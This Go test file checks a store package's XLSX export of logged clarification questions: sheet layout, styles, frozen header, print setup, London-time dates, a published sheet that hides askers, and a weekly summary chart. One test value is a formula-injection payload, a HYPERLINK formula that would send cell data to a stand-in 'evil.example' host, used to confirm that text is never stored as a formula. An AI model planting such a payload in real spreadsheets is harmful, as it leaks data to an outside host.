package store

import (
	"archive/zip"
	"bytes"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// TestExportXLSX reads the workbook back with excelize and checks what a
// person opening it would meet: the sheets, the headings in order, the
// styles (bold header, wrapped text, dates), the frozen header and the
// filter, the print setup, Yes/No, London times, and the summary chart.
func TestExportXLSX(t *testing.T) {
	c := newClock()
	s := openLondon(t, c)
	for _, q := range tricky(c) {
		mustLog(t, s, q)
	}
	var buf bytes.Buffer
	n, err := s.Export(&buf, FormatXLSX, Filter{})
	if err != nil || n != 5 {
		t.Fatalf("Export = %d, %v; want 5 rows", n, err)
	}
	x, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("exported XLSX does not open: %v", err)
	}
	defer x.Close()
	if got, want := x.GetSheetList(), []string{"Questions", "Published clarifications", "Summary"}; !reflect.DeepEqual(got, want) {
		t.Errorf("sheets = %q; want %q", got, want)
	}
	const sh = "Questions"
	rows, err := x.GetRows(sh)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 6 || !reflect.DeepEqual(rows[0], wantHeadings) {
		t.Fatalf("%d rows, header %q; want 6 rows and header %q", len(rows), rows[0], wantHeadings)
	}
	cell := func(row int, heading string) string {
		t.Helper()
		name, err := excelize.CoordinatesToCellName(indexOf(wantHeadings, heading)+1, row)
		if err != nil {
			t.Fatal(err)
		}
		return name
	}
	value := func(row int, heading string) string {
		t.Helper()
		v, err := x.GetCellValue(sh, cell(row, heading))
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	style := func(sheet, ref string) *excelize.Style {
		t.Helper()
		id, err := x.GetCellStyle(sheet, ref)
		if err != nil {
			t.Fatal(err)
		}
		st, err := x.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		return st
	}

	// Header: bold on a fill, frozen.
	if st := style(sh, "A1"); st.Font == nil || !st.Font.Bold || len(st.Fill.Color) == 0 {
		t.Errorf("header style = %+v; want bold on a fill", st)
	}
	panes, err := x.GetPanes(sh)
	if err != nil || !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
		t.Errorf("panes = %+v, %v; want the header row frozen", panes, err)
	}
	// An autofilter over the whole table.
	filter := ""
	for _, dn := range x.GetDefinedName() {
		if dn.Name == "_xlnm._FilterDatabase" && dn.Scope == sh {
			filter = dn.RefersTo
		}
	}
	if filter != "'Questions'!$A$1:$W$6" && filter != "Questions!$A$1:$W$6" {
		t.Errorf("autofilter = %q; want the table A1:W6", filter)
	}

	// Long text wraps in a wide column; the row is tall enough for it.
	if st := style(sh, cell(5, "Question")); st.Alignment == nil || !st.Alignment.WrapText || st.Alignment.Vertical != "top" {
		t.Errorf("question style = %+v; want wrapped, top-aligned", st.Alignment)
	}
	if w, err := x.GetColWidth(sh, "C"); err != nil || w < 30 {
		t.Errorf("question column width = %v, %v; want a wide column", w, err)
	}
	if h, err := x.GetRowHeight(sh, 5); err != nil || h < 3*xlsxLineHeight {
		t.Errorf("row 5 (four lines of question) height = %v, %v; want at least three lines", h, err)
	}

	// Times are real dates in London time: 09:30 UTC is 10:30 BST.
	raw, err := x.GetCellValue(sh, cell(2, "Asked (Europe/London)"), excelize.Options{RawCellValue: true})
	if err != nil || !strings.HasPrefix(raw, "40091.4375") {
		t.Errorf("Asked raw value = %q, %v; want the serial date of 2009-10-05 10:30 (40091.4375)", raw, err)
	}
	if st := style(sh, cell(2, "Asked (Europe/London)")); st.CustomNumFmt == nil || *st.CustomNumFmt != xlsxDateFormat {
		t.Errorf("Asked style = %+v; want number format %q", st, xlsxDateFormat)
	}
	checks := []struct {
		row           int
		heading, want string
	}{
		{2, "Asked (Europe/London)", "2009-10-05 10:30"},
		{2, "Bot confident", "No"},
		{4, "Bot confident", "Yes"},
		{2, "Status", "Awaiting NSG"},
		{2, "Bot's answer (citation)", "Guide, slide 17: Application process\nFAQ, Q3: Consortia"},
		{5, "Published at (Europe/London)", "2009-10-05 11:30"},
		{5, "Helpful", "Yes"},
		{5, "Asker", "Zoë Brontë"},
		{2, "Question", `=HYPERLINK("http://evil.example/?"&A1,"click")`},
	}
	for _, ck := range checks {
		if got := value(ck.row, ck.heading); got != ck.want {
			t.Errorf("row %d %s = %q; want %q", ck.row, ck.heading, got, ck.want)
		}
	}
	// Strings are text, never formulas.
	if f, err := x.GetCellFormula(sh, cell(2, "Question")); err != nil || f != "" {
		t.Errorf("question formula = %q, %v; want none", f, err)
	}

	// Printing: landscape, one page wide, header row on every page, the
	// machine ids off the page.
	for _, sheet := range x.GetSheetList() {
		pl, err := x.GetPageLayout(sheet)
		if err != nil || pl.Orientation == nil || *pl.Orientation != "landscape" || pl.FitToWidth == nil || *pl.FitToWidth != 1 || pl.FitToHeight == nil || *pl.FitToHeight != 0 {
			t.Errorf("%s page layout = %+v, %v; want landscape, fit to one page wide", sheet, pl, err)
		}
		props, err := x.GetSheetProps(sheet)
		if err != nil || props.FitToPage == nil || !*props.FitToPage {
			t.Errorf("%s: fit to page is off (%v)", sheet, err)
		}
	}
	names := map[string]string{}
	for _, dn := range x.GetDefinedName() {
		names[dn.Scope+" "+dn.Name] = dn.RefersTo
	}
	if got := names["Questions _xlnm.Print_Titles"]; got != "'Questions'!$1:$1" {
		t.Errorf("print titles = %q; want the header row", got)
	}
	if got := names["Questions _xlnm.Print_Area"]; got != "'Questions'!$A:$M" {
		t.Errorf("print area = %q; want the columns staff read, A:M", got)
	}

	// Published clarifications: what bidders saw, nothing about the asker.
	pub, err := x.GetRows("Published clarifications")
	if err != nil {
		t.Fatal(err)
	}
	if len(pub) != 2 || !reflect.DeepEqual(pub[0], []string{"Clarification", "Published (Europe/London)", "Question", "Answer"}) {
		t.Fatalf("published sheet = %q", pub)
	}
	if got := pub[1]; got[0] != "Q-0004" || got[1] != "2009-10-05 11:30" || got[2] != "\nCarriage\nreturns and\nlines" || !strings.HasPrefix(got[3], "Match funding") {
		t.Errorf("published row = %q", got)
	}
	for _, r := range pub {
		for _, v := range r {
			if strings.Contains(v, "Zoë") || strings.Contains(v, "U4") {
				t.Errorf("the published sheet names the asker: %q", r)
			}
		}
	}

	// Summary: counts by status and by week, and a chart of the weeks.
	sum, err := x.GetRows("Summary")
	if err != nil {
		t.Fatal(err)
	}
	wantSum := [][]string{
		{"Status", "Questions", "", "Week beginning (Europe/London)", "Questions"},
		{"Answered by bot", "1", "", "5 Oct 2009", "5"},
		{"Awaiting NSG", "3"},
		{"Follows another", "0"},
		{"NSG answered", "0"},
		{"Published", "1"},
		{"Total", "5"},
	}
	if !reflect.DeepEqual(sum, wantSum) {
		t.Errorf("summary = %q\nwant %q", sum, wantSum)
	}
	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	chart := false
	for _, f := range zr.File {
		if strings.HasPrefix(f.Name, "xl/charts/chart") {
			chart = true
			rc, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			var b bytes.Buffer
			b.ReadFrom(rc)
			rc.Close()
			if !strings.Contains(b.String(), `<majorUnit val="1">`) && !strings.Contains(b.String(), `<c:majorUnit val="1"`) {
				t.Errorf("the chart's value axis does not count in whole questions")
			}
		}
		if f.Name == "xl/worksheets/sheet1.xml" {
			rc, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			var b bytes.Buffer
			b.ReadFrom(rc)
			rc.Close()
			if !strings.Contains(b.String(), `<autoFilter ref="$A$1:$W$6"`) && !strings.Contains(b.String(), `<autoFilter ref="A1:W6"`) {
				t.Errorf("the Questions sheet has no autoFilter element over A1:W6")
			}
		}
	}
	if !chart {
		t.Error("the workbook has no chart")
	}
}

func TestSummaryWeeks(t *testing.T) {
	loc := london(t)
	sum := newSummary(loc)
	for _, at := range []time.Time{
		time.Date(2009, 6, 1, 8, 0, 0, 0, time.UTC),   // Monday
		time.Date(2009, 6, 7, 22, 30, 0, 0, time.UTC), // Sunday 23:30 BST: still that week
		time.Date(2009, 6, 7, 23, 30, 0, 0, time.UTC), // Monday 00:30 BST: the next
		time.Date(2009, 6, 22, 9, 0, 0, 0, time.UTC),
	} {
		sum.add(&Question{AskedAt: at, Status: StatusAnswered})
	}
	want := map[time.Time]int{
		time.Date(2009, 6, 1, 0, 0, 0, 0, time.UTC):  2,
		time.Date(2009, 6, 8, 0, 0, 0, 0, time.UTC):  1,
		time.Date(2009, 6, 22, 0, 0, 0, 0, time.UTC): 1,
	}
	if !reflect.DeepEqual(sum.byWeek, want) {
		t.Errorf("weeks = %v; want %v", sum.byWeek, want)
	}
}
